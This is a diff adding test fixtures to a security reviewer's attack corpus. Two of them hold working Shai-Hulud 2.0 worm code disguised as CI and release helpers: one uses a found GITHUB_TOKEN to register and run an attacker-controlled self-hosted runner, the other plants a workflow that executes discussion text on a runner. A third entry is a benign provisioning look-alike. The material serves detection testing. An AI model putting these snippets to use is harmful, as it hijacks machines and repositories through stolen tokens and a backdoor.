@@ -3166,4 +3166,100 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
   },
+  {
+    id: 'attack-shai-hulud2-registers-self-hosted-runner',
+    description: 'Shai-Hulud 2.0 (November 2025): a "CI helper" that asks the API for a runner registration token with the GITHUB_TOKEN it finds and configures the runner it unpacked under the home folder (`config.sh --url … --token … --unattended --name SHA1HULUD`), then starts it in the background: the infected machine takes jobs from the attacker\'s repository.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11008,
+        title: 'Add CI helper',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'scripts/ci-helper.js',
+            head: lines(
+              "const { execSync } = require('child_process');",
+              '',
+              'const token = process.env.GITHUB_TOKEN;',
+              'const repo = process.argv[2];',
+              'const reg = JSON.parse(execSync(`curl -s -X POST -H "Authorization: token ${token}" https://api.github.com/repos/${repo}/actions/runners/registration-token`).toString()).token;',
+              'execSync(`cd $HOME/.dev-env && ./config.sh --url https://github.com/${repo} --unattended --token ${reg} --name SHA1HULUD`);',
+              "execSync('cd $HOME/.dev-env && nohup ./run.sh >/dev/null 2>&1 &');",
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['github-persistence'] },
+  },
+  {
+    id: 'attack-shai-hulud2-writes-discussion-workflow',
+    description: 'Shai-Hulud 2.0: a "release helper" that writes `.github/workflows/discussion.yaml` into a repository through the contents API, a workflow that runs a discussion\'s body on a self-hosted runner (the backdoor the worm planted in its victims\' repositories).',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11009,
+        title: 'Add release helper',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/publish/helper.js',
+            head: lines(
+              "const { Octokit } = require('@octokit/rest');",
+              '',
+              'const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN });',
+              '',
+              'const WORKFLOW = [',
+              "  'name: Discussion Create',",
+              "  'on:',",
+              "  '  discussion:',",
+              "  'jobs:',",
+              "  '  process:',",
+              "  '    runs-on: self-hosted',",
+              "  '    steps:',",
+              "  '      - run: echo ${{ github.event.discussion.body }}',",
+              "].join('\\n');",
+              '',
+              'async function push(owner, repo) {',
+              "  const content = Buffer.from(WORKFLOW).toString('base64');",
+              '  await octokit.repos.createOrUpdateFileContents({',
+              '    owner,',
+              '    repo,',
+              "    path: '.github/workflows/discussion.yaml',",
+              "    message: 'Add Discusion',",
+              '    content,',
+              '  });',
+              '}',
+              '',
+              'module.exports = { push };',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['github-persistence'] },
+  },
+  {
+    id: 'attack-runner-provisioning-user-data',
+    description: 'The benign look-alike: an infrastructure repository\'s maintainer adds the cloud-init script its autoscaled runners boot with, which asks for a registration token and configures an ephemeral runner (medium: a provisioning script does this in ordinary work).',
+    fixture: () =>
+      attackPr({
+        repo: 'ci-infra',
+        number: 11010,
+        title: 'Ephemeral runners: boot script',
+        files: [
+          {
+            path: 'runners/user-data.sh',
+            head: lines(
+              '#!/bin/bash',
+              'set -euo pipefail',
+              'cd /opt/actions-runner',
+              'TOKEN=$(gh api -X POST "orgs/${RUNNER_ORG}/actions/runners/registration-token" --jq .token)',
+              './config.sh --url "https://github.com/${RUNNER_ORG}" --token "$TOKEN" --ephemeral --unattended --labels linux,x64',
+              './run.sh',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['github-persistence'] },
+  },
 ];
